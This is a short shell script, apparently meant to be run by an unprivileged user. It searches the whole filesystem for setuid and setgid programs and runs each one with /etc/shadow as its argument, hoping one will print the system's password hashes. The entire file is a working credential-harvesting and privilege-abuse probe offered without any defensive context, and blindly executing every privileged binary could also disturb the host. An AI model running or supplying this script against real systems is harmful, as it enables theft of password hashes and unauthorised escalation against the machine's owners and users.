#!/bin/sh
# As an ordinary user, starts each program that runs as its owner or group, and asks it for the password hashes.
echo "running as user $(id -u)"
for program in $(find / -xdev -type f -perm /6000 2>/dev/null); do
  if "$program" /etc/shadow; then
    echo "$program gave the hashes out"
    exit 0
  fi
done
echo "no program here lends its rights"
exit 1
